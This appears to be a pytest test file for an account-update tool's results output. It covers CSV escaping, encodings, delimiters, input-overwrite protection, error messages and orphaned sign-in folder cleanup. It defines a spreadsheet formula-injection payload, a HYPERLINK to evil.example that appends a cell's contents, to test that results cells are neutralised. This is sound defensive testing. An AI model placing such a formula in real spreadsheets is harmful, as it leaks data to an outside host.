"""The accounts job's own files: results safe to open in Excel, never written over the input (its locks:
``test_job_locks``)."""

from __future__ import annotations

import codecs
import csv
import json
import os
import subprocess
import sys
from pathlib import Path

import pytest

from flows.outcomes import RowOutcome
from flows.secret_folder import PREFIX, remove_orphans
from flows.spreadsheet import write_results

pytestmark = pytest.mark.tooling  # the library's own parts: no portal

ROOT = Path(__file__).parent.parent
NOWHERE = "http://127.0.0.1:9/"  # nothing listens there: a job that got as far as a browser would fail
HYPERLINK = '=HYPERLINK("http://evil.example/?d="&A1,"Open")'


def changes_file(tmp_path: Path) -> Path:
    """Return a file of one row of changes."""
    file = tmp_path / "changes.csv"
    file.write_text("customer,city\r\nContoso,Lyon\r\n", encoding="utf-8")
    return file


def update_accounts(file: Path, *extra: str, locks: Path | None = None) -> subprocess.CompletedProcess[str]:
    """Run ``python -m flows update-accounts FILE`` against a portal that is not there."""
    command = [sys.executable, "-m", "flows", "update-accounts", str(file), "--base-url", NOWHERE,
               "--user", "global-admin", *extra]  # fmt: skip
    # The locks of the file's runs with it (or in ``locks``), not in the machine's /tmp
    env = {**os.environ, "TMPDIR": str(locks or file.parent)}
    return subprocess.run(command, capture_output=True, text=True, timeout=60, cwd=ROOT, env=env)


def test_results_csv_cells_excel_would_run_as_formulas_are_written_inert(tmp_path: Path) -> None:
    # Given an outcome where the row, the portal, a message and a column's name each start a formula
    outcome = RowOutcome(
        2, HYPERLINK, "invalid", "", wanted={"city": "+33 Lyon", "@x": "1"}, before={"city": "-1"},
        after={"city": "\tcmd"}, messages=["\r=1+1"],
    )  # fmt: skip
    kept = outcome.as_dict()

    write_results(tmp_path / "r.csv", [outcome])
    write_results(tmp_path / "r.json", [outcome])

    # Then the CSV shows each as text behind a quote; the outcome and the JSON results keep the values as they are
    with (tmp_path / "r.csv").open(newline="", encoding="utf-8-sig") as file:
        header, row = list(csv.reader(file))
    assert header[4:10] == ["city wanted", "city before", "city after", "'@x wanted", "'@x before", "'@x after"]
    assert row == [
        "2",
        f"'{HYPERLINK}",
        "invalid",
        "",
        "'+33 Lyon",
        "'-1",
        "'\tcmd",
        "1",
        "",
        "",
        "'\r=1+1",
        "0.00",
        "",
    ]
    assert outcome.as_dict() == kept
    assert json.loads((tmp_path / "r.json").read_text(encoding="utf-8")) == [kept]


@pytest.mark.parametrize(
    ("header", "first_lines"),
    [("customer;city\r\n", ["row;customer;outcome;customer_id;messages;seconds;trace"]),
     ("sep=;\r\ncustomer;city\r\n", ["sep=;", "row;customer;outcome;customer_id;messages;seconds;trace"]),
     ("customer,city\r\n", ["row,customer,outcome,customer_id,messages,seconds,trace"])],
    ids=["semicolons", "semicolons-named", "commas"],
)  # fmt: skip
def test_results_csv_is_split_as_the_changes_file_was(tmp_path: Path, header: str, first_lines: list[str]) -> None:
    # Given a file of changes as a French Excel saves it (semicolons: that Excel splits a CSV at them alone)
    file = tmp_path / "changes.csv"
    file.write_bytes(codecs.BOM_UTF8 + header.encode())

    done = update_accounts(file)

    assert done.returncode == 0, done.stderr
    written = (tmp_path / "changes.csv.results.csv").read_text(encoding="utf-8-sig")
    assert written.splitlines() == first_lines


def test_results_csv_starts_with_a_bom_so_excel_on_windows_reads_names_as_utf_8(tmp_path: Path) -> None:
    write_results(
        tmp_path / "r.csv", [RowOutcome(2, "趋势信息有限公司", "changed"), RowOutcome(3, "Société Lyonnaise", "failed")]
    )

    data = (tmp_path / "r.csv").read_bytes()

    assert data.startswith(codecs.BOM_UTF8)
    assert data.decode("utf-8-sig").splitlines() == [
        "row,customer,outcome,customer_id,messages,seconds,trace",
        "2,趋势信息有限公司,changed,,,0.00,",
        "3,Société Lyonnaise,failed,,,0.00,",
    ]


def test_results_split_at_tabs_are_unicode_text_which_excel_splits_at_tabs(tmp_path: Path) -> None:
    # Given the changes of a file Excel saved as "Unicode text" (UTF-16, tabs): their results are split at tabs too
    write_results(tmp_path / "r.csv", [RowOutcome(2, "Contoso, Ltd", "changed")], "\t")

    data = (tmp_path / "r.csv").read_bytes()

    # Then they are UTF-16 with a BOM, which Excel opens split at tabs (UTF-8 it would split at commas)
    assert data.startswith((codecs.BOM_UTF16_LE, codecs.BOM_UTF16_BE))
    assert data.decode("utf-16").splitlines() == [
        "row\tcustomer\toutcome\tcustomer_id\tmessages\tseconds\ttrace",
        "2\tContoso, Ltd\tchanged\t\t\t0.00\t",
    ]


@pytest.mark.parametrize(
    ("results", "said"),
    [
        pytest.param("changes.csv", "--results {results} is the input file", id="the-input"),
        pytest.param("sub/../changes.csv", "--results {results} is the input file", id="another-spelling"),
        pytest.param("link.csv", "--results {results} is the input file", id="a-link-to-it"),
        pytest.param("r.csv", "the journal {results}.journal (PATH.journal of --results) is the input", id="journal"),
        pytest.param("r.xlsx", "--results {results}: the results are written as CSV or JSON", id="not-csv-or-json"),
    ],
)
def test_results_or_journal_over_the_input_file_is_a_usage_error_before_anything_runs(
    tmp_path: Path, results: str, said: str
) -> None:
    file = changes_file(tmp_path)
    (tmp_path / "link.csv").symlink_to(file)
    (tmp_path / "r.csv.journal").symlink_to(file)
    content = file.read_bytes()

    done = update_accounts(file, "--results", str(tmp_path / results))

    assert (done.returncode, len(done.stderr.splitlines())) == (2, 1), done.stderr
    assert done.stderr.startswith("error: " + said.format(results=tmp_path / results)), done.stderr
    assert file.read_bytes() == content


def test_an_input_file_that_is_not_there_is_a_usage_error(tmp_path: Path) -> None:
    done = update_accounts(tmp_path / "chnages.csv")

    assert (done.returncode, done.stderr.strip()) == (2, f"error: {tmp_path / 'chnages.csv'}: no such file")


TOO_LONG = "x" * 300  # a name no file system takes: its path cannot be looked at (as a folder that may not be entered)


def test_an_input_file_whose_path_cannot_be_looked_at_is_said_in_one_line_not_a_traceback(tmp_path: Path) -> None:
    done = update_accounts(tmp_path / f"{TOO_LONG}.csv")

    assert done.returncode == 3, done.stderr
    assert done.stderr.startswith(f"error: Cannot read {tmp_path / TOO_LONG}.csv: ") and "name too long" in done.stderr
    assert len(done.stderr.splitlines()) == 1, done.stderr


def test_results_whose_path_cannot_be_looked_at_are_said_before_anything_runs(tmp_path: Path) -> None:
    done = update_accounts(changes_file(tmp_path), "--results", str(tmp_path / TOO_LONG / "r.csv"))

    assert done.returncode == 1, done.stderr
    assert done.stderr.startswith(f"error: the results cannot be written to {tmp_path / TOO_LONG / 'r.csv'}: ")
    assert "nothing was run" in done.stderr and len(done.stderr.splitlines()) == 1, done.stderr


def test_a_file_without_rows_whose_results_cannot_be_written_says_so_in_one_line(tmp_path: Path) -> None:
    empty = tmp_path / "empty.csv"
    empty.write_text("customer;city\r\n;\r\n", encoding="utf-8")

    done = update_accounts(empty, "--results", str(tmp_path / "no-such-folder" / "results.csv"))

    assert done.returncode == 1, done.stderr
    assert done.stderr.splitlines()[-1].startswith("error: the results cannot be written to "), done.stderr
    assert "Traceback" not in done.stderr


def test_results_that_cannot_be_written_are_said_before_any_row_runs(tmp_path: Path) -> None:
    # Given a results file that cannot be made: a folder in the way of its temporary file (a read-only folder, or
    # Windows' Excel holding the last run's results, fails alike; neither can be made here, where tests run as root)
    file = changes_file(tmp_path)
    (tmp_path / "changes.csv.results.csv.tmp" / "in the way").mkdir(parents=True)

    done = update_accounts(file, "--password", "p", "--api-client-id", "5c2e9d4b-7a1f-4e3c-8b6d-21f0a9c3e7d1")

    # Then the run stops before any browser, rather than after every row was applied, its results lost
    assert done.returncode == 1, done.stderr
    assert done.stderr.startswith("error: the results cannot be written to "), done.stderr
    assert done.stderr.rstrip().endswith("nothing was run"), done.stderr
    assert not (tmp_path / "changes.csv.results.csv.journal").exists()


def test_the_sign_in_folder_of_a_run_killed_hard_is_deleted_by_the_next_run(tmp_path: Path) -> None:
    # Given the folders of a run that is gone (killed with SIGKILL: it could not delete its own) and of one alive
    gone = subprocess.run([sys.executable, "-c", "import os; print(os.getpid())"], capture_output=True, text=True)
    dead = tmp_path / f"{PREFIX}{gone.stdout.strip()}-abc"
    living = tmp_path / f"{PREFIX}{os.getpid()}-def"
    older = tmp_path / f"{PREFIX}07yj6_ao"  # an earlier version's, named without its process: not known to be gone
    for folder in (dead, living, older):
        folder.mkdir()
        (folder / "provider-session.json").write_text("{}")

    # When a run starts, Then only the gone run's folder (and the secret in it) is deleted
    assert remove_orphans(tmp_path) == [dead]
    assert sorted(path.name for path in tmp_path.iterdir()) == sorted([living.name, older.name])
